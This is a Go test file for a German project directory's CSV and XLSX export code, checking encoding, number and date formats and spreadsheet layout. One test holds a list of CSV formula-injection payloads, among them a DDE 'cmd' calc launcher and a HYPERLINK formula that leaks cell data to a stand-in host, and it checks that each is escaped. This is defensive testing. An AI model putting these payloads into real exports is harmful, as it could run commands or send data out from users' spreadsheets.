package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/ikz-verzeichnis/ikz-verzeichnis/internal/coop"
	"github.com/ikz-verzeichnis/ikz-verzeichnis/internal/export"
)

var cols = []export.Column{{Header: "Titel", Width: 40}, {Header: "Beginn"}, {Header: "Budget geplant", Width: 16}, {Header: "Anzahl"}}

func money(s string) *coop.Cents {
	c, err := coop.ParseMoney(s)
	if err != nil {
		panic(err)
	}
	return &c
}

func n(v int64) *int64 { return &v }

var rows = [][]export.Cell{
	{export.Text("IT-Hotline; \"Mitnutzung\""), export.Date(coop.MustPartialDate("2016-11")), export.Money(money("125000.30")), export.Int(n(3))},
	{export.Text("=SUMME(A1)"), export.Date(coop.MustPartialDate("2017-02-15")), export.Money(money("-0.10")), export.Int(nil)},
	{export.Text("Zeile\nzwei"), export.Date(coop.PartialDate{}), export.Money(nil)},
	{export.Text("Rechenzentrum"), export.Date(coop.MustPartialDate("2018"))},
}

func TestCSV(t *testing.T) {
	for _, tc := range []struct {
		comma rune
		money []string
	}{
		{';', []string{"125000,30", "-0,10", "", ""}},
		{',', []string{"125000.30", "-0.10", "", ""}},
	} {
		var buf bytes.Buffer
		w, err := export.NewCSV(&buf, cols, tc.comma)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			if err := w.WriteRow(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		raw := buf.String()
		if !strings.HasPrefix(raw, "\uFEFFTitel") {
			t.Errorf("%q: no BOM before the header: %q", tc.comma, raw[:10])
		}
		if strings.Count(raw, "\r\n") != 6 || strings.Contains(strings.ReplaceAll(raw, "\r\n", ""), "\n") {
			t.Errorf("%q: want CRLF line ends (5 records, one CRLF inside a quoted field): %q", tc.comma, raw)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\uFEFF")))
		r.Comma = tc.comma
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%q: parse back: %v", tc.comma, err)
		}
		want := [][]string{
			{"Titel", "Beginn", "Budget geplant", "Anzahl"},
			{"IT-Hotline; \"Mitnutzung\"", "2016-11", tc.money[0], "3"},
			{"'=SUMME(A1)", "2017-02-15", tc.money[1], ""},
			{"Zeile\nzwei", "", "", ""},
			{"Rechenzentrum", "2018", "", ""},
		}
		for i := range want {
			if !slices.Equal(recs[i], want[i]) {
				t.Errorf("%q: record %d = %q, want %q", tc.comma, i, recs[i], want[i])
			}
		}
	}
	if _, err := export.NewCSV(&bytes.Buffer{}, cols, '\t'); err == nil {
		t.Error("tab separator accepted")
	}
	w, _ := export.NewCSV(&bytes.Buffer{}, cols, ';')
	if err := w.WriteRow(make([]export.Cell, 5)); err == nil {
		t.Error("too many cells accepted")
	}
}

func TestXLSX(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.NewXLSX(&buf, "Vorhaben", cols)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.WriteRow(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.AddSheet("Statistik", []export.Column{{Header: "Status"}, {Header: "Anzahl"}},
		[][]export.Cell{{export.Text("In Betrieb"), export.Int(n(3))}}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatalf("open back: %v", err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{"Vorhaben", "Statistik"}) {
		t.Fatalf("sheets = %v", got)
	}
	got, err := f.GetRows("Vorhaben", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 5 || !slices.Equal(got[0], []string{"Titel", "Beginn", "Budget geplant", "Anzahl"}) {
		t.Fatalf("rows = %q", got)
	}
	if got[2][0] != "=SUMME(A1)" || got[1][0] != "IT-Hotline; \"Mitnutzung\"" {
		t.Errorf("text cells = %q, %q (XLSX text is never a formula: kept as is)", got[1][0], got[2][0])
	}
	if got[1][2] != "125000.3" || got[2][2] != "-0.1" || got[1][3] != "3" {
		t.Errorf("numbers = %q", got[1:3])
	}
	// dates: serial numbers of the first day, formatted with their precision
	for cell, want := range map[string]struct {
		day time.Time
		fmt string
	}{
		"B2": {time.Date(2016, 11, 1, 0, 0, 0, 0, time.UTC), "mm.yyyy"},
		"B3": {time.Date(2017, 2, 15, 0, 0, 0, 0, time.UTC), "dd.mm.yyyy"},
		"B5": {time.Date(2018, 1, 1, 0, 0, 0, 0, time.UTC), "yyyy"},
	} {
		raw, _ := f.GetCellValue("Vorhaben", cell, excelize.Options{RawCellValue: true})
		serial, _ := excelize.ExcelDateToTime(mustFloat(t, raw), false)
		if !serial.Equal(want.day) {
			t.Errorf("%s = %s (%v), want %v", cell, raw, serial, want.day)
		}
		if f := numFmt(t, f, "Vorhaben", cell); f != want.fmt {
			t.Errorf("%s format %q, want %q", cell, f, want.fmt)
		}
	}
	if f := numFmt(t, f, "Vorhaben", "C2"); f != `#,##0.00 "€"` {
		t.Errorf("money format %q", f)
	}
	for cell, want := range map[string]excelize.CellType{"A2": excelize.CellTypeInlineString, "C2": excelize.CellTypeUnset, "D2": excelize.CellTypeUnset} {
		if ct, _ := f.GetCellType("Vorhaben", cell); ct != want {
			t.Errorf("%s type %v, want %v (a number)", cell, ct, want)
		}
	}
	panes, err := f.GetPanes("Vorhaben")
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, %v: want the header row frozen", panes, err)
	}
	var filter bool
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" && strings.Contains(d.RefersTo, "$A$1:$D$5") {
			filter = true
		}
	}
	if !filter {
		t.Errorf("no autofilter over A1:D5: %+v", f.GetDefinedName())
	}
	if w, _ := f.GetColWidth("Vorhaben", "A"); w != 40 {
		t.Errorf("width of A = %v", w)
	}
	stats, _ := f.GetRows("Statistik")
	if len(stats) != 2 || stats[1][0] != "In Betrieb" || stats[1][1] != "3" {
		t.Errorf("Statistik = %q", stats)
	}
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	var f float64
	if _, err := fmt.Sscan(s, &f); err != nil {
		t.Fatalf("%q is not a number: %v", s, err)
	}
	return f
}

func numFmt(t *testing.T, f *excelize.File, sheet, cell string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

// TestCSVInjection: no text cell reaches a spreadsheet as a formula, on either
// delimiter: OWASP's payloads (=, +, -, @, tab, CR; also after leading blanks) and line
// feeds are neutralised with an apostrophe, harmless text is left alone.
func TestCSVInjection(t *testing.T) {
	payloads := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example/?"&A1,"Klick")`,
		"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "\u3000@SUM(1)", "\t", "\r",
		"=", "-", "@",
	}
	harmless := []string{"Stadt Münster", "1+1=2", "a=b", "E-Mail", "lwl-it", "'=schon geschützt", "Zeile\nzwei", ";=1+1", ",=1+1"}
	// encoding/csv reads a quoted CR LF as LF and drops a lone CR: compare so
	read := strings.NewReplacer("\r\n", "\n", "\r", "")
	cells := [][]export.Cell{}
	for _, p := range append(slices.Clone(payloads), harmless...) {
		cells = append(cells, []export.Cell{export.Text(p)})
	}
	for _, comma := range []rune{';', ','} {
		var buf bytes.Buffer
		w, err := export.NewCSV(&buf, []export.Column{{Header: "Titel"}}, comma)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range cells {
			if err := w.WriteRow(row); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
		r.Comma = comma
		recs, err := r.ReadAll()
		if err != nil || len(recs) != len(cells)+1 {
			t.Fatalf("%q: %d records, %v", comma, len(recs), err)
		}
		for i, p := range payloads {
			if got := recs[i+1][0]; got != read.Replace("'"+p) {
				t.Errorf("%q: %q written as %q, want it behind an apostrophe", comma, p, got)
			}
		}
		for i, h := range harmless {
			if got := recs[len(payloads)+i+1][0]; got != read.Replace(h) {
				t.Errorf("%q: %q written as %q", comma, h, got)
			}
		}
	}
}

// Hundredths: two fraction digits exact in CSV (decimal comma for German Excel), a
// number with two decimals in XLSX.
func TestHundredths(t *testing.T) {
	cells := [][]export.Cell{{export.Hundredths(n(30328))}, {export.Hundredths(n(-5))}, {export.Hundredths(nil)}}
	for comma, want := range map[rune]string{';': "303,28|-0,05", ',': "303.28|-0.05"} {
		var buf bytes.Buffer
		w, err := export.NewCSV(&buf, []export.Column{{Header: "Fläche km²"}}, comma)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range cells {
			if err := w.WriteRow(r); err != nil {
				t.Fatal(err)
			}
		}
		_ = w.Close()
		lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(buf.String(), "\uFEFF")), "\r\n")
		if got := strings.Join(lines[1:3], "|"); got != want {
			t.Errorf("%q: %q, want %q", comma, got, want)
		}
	}
	var buf bytes.Buffer
	x, err := export.NewXLSX(&buf, "Partner", []export.Column{{Header: "Fläche km²"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range cells {
		if err := x.WriteRow(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"A2": "303.28", "A3": "-0.05"} {
		if v, _ := f.GetCellValue("Partner", cell, excelize.Options{RawCellValue: true}); v != want {
			t.Errorf("%s = %q, want %s", cell, v, want)
		}
		if v, _ := f.GetCellValue("Partner", cell); !strings.Contains(v, ".") {
			t.Errorf("%s shown as %q, want two decimals", cell, v)
		}
	}
}
